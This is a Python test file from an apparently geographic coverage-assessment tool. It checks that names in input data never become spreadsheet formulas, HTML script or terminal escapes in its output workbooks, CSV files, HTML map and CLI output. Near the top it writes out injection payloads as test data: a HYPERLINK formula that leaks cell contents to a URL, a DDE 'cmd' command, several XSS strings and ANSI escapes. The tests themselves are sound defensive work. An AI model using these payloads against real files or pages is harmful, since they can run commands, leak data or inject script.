"""Formulas, markup and control characters in names, from the register to every file that people open."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from coverage.__main__ import app
from coverage.study import Study
from tests.studymaker import TinyStudy, tiny_study

FORMULA = '=HYPERLINK("http://host/?"&A1,"x")'
COMMAND = "+cmd|' /C calc'!A0"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
BREAKOUT = "</script><svg onload=alert(3)>"
CONTROL = "bell\x07 escape\x1b[31m vertical\x0b"
NAMES = {
    "p00": FORMULA,
    "p04": COMMAND,
    "p08": MARKUP,
    "p12": BREAKOUT,
    "p16": CONTROL,
    "p20": "@SUM(1)",
    "p24": "-2+3",
    "p28": "\t=1+1",
}


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Assess a study whose businesses, providers and rejected rows have hostile names; return the folder of files."""
    folder = tmp_path_factory.mktemp("hostile")
    tiny: TinyStudy = tiny_study(folder / "tiny")
    path = tiny.folder / "premises.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    out = [lines[0] + ";navn;adresse"]
    for line in lines[1:]:
        name = NAMES.get(line.split(";")[0], "")
        quoted = name.replace('"', '""')
        out.append(f'{line};"{quoted}";"{quoted}"')
    out.append("bad1;=1+1;1;271000;7031000;;x;x\nbad2;<b>shop</b>;1;271000;7031000;;x;x")
    path.write_text("\n".join(out) + "\n", encoding="utf-8")
    tiny.source("premises")["columns"] |= {"name": "navn", "address": "adresse"}
    tiny.drop("fibre")
    offers = [f'p{n:02d};"{name}";10;1' for n, name in ((0, "=1+1"), (4, "<script>x</script>"), (8, "@x"))]
    text = "\n".join(["place_id;provider;down;up", *offers]) + "\n"
    (tiny.folder / "fibre.csv").write_text(text, encoding="utf-8")
    tiny.sources.append({
        "id": "offers", "role": "offers", "kind": "table", "path": "fibre.csv", "options": {"shape": "place"},
        "columns": {"down_mbps": "down", "up_mbps": "up"}, "constants": {"technology": "dsl"},
    })  # fmt: skip
    tiny.save()
    result = CliRunner().invoke(app, ["assess", str(tiny.folder), "--out", str(folder / "out"), "--json"])
    assert result.exit_code == 0, result.output
    return folder / "out"


def test_names_arrive_unchanged_in_the_data(run: Path) -> None:
    import geopandas as gpd

    places = gpd.read_parquet(run / "places.parquet").set_index("place_id")["name"]
    for place, name in NAMES.items():
        assert places[place] == name.strip(), place


def test_no_cell_of_a_workbook_is_a_formula(run: Path) -> None:
    books = sorted(run.rglob("*.xlsx"))
    assert books
    seen = set()
    for path in books:
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        seen |= {name for name in NAMES.values() if name.strip() in cell.value}
                        assert cell.data_type != "f", f"{path.name} {sheet.title} {cell.coordinate}: {cell.value}"
                        assert cell.hyperlink is None or str(cell.hyperlink.target).startswith(
                            ("https://", "#", "None")
                        )
    assert FORMULA in seen  # the name is there, as text


def test_no_cell_of_a_csv_file_starts_a_formula(run: Path) -> None:
    files = sorted(run.rglob("*.csv"))
    assert {path.name for path in files} >= {"rejected.csv", "priority-list.csv"}
    for path in files:
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file):
                for cell in row:
                    number = re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", cell)
                    assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"{path.name}: {cell!r}"
    rejected = (run / "rejected.csv").read_text(encoding="utf-8")
    assert "=1+1" in rejected
    assert "<b>shop</b>" in rejected


def test_markup_never_becomes_part_of_the_map(run: Path) -> None:
    text = (run / "map.html").read_text(encoding="utf-8")
    for name in (MARKUP, BREAKOUT, "<script>x</script>", "<img src=x", "<svg onload"):
        assert name not in text, name
    # What the page knows of the places it knows as data: every script block parses apart from what names hold.
    blocks = re.findall(r'<script[^>]*type="application/json"[^>]*>(.*?)</script>', text, re.DOTALL)
    for block in blocks:
        json.loads(block)


def test_the_map_writes_names_as_text(run: Path) -> None:
    text = (run / "map.html").read_text(encoding="utf-8")
    script = (Path(__file__).parent.parent / "maps" / "assets" / "map.js").read_text(encoding="utf-8")
    assert "textContent" in script
    # The legends, which Python wrote and escaped.
    written = re.findall(r"\.(?:innerHTML|outerHTML)\s*[+]?=\s*(.*?);", script)
    assert sorted(written) == ["html", "options.html"], "map.js writes HTML"
    assert "insertAdjacentHTML" not in script
    assert "document.write" not in script
    assert text.count("<script") == text.count("</script>")


def test_a_study_says_what_it_rejected_without_markup_or_escapes(run: Path) -> None:
    study = Study.open(run.parent / "tiny")
    result = CliRunner().invoke(app, ["check", str(study.folder)])
    assert result.exit_code == 1
    assert "\x1b[31m" not in result.output
    assert "=1+1" in result.output
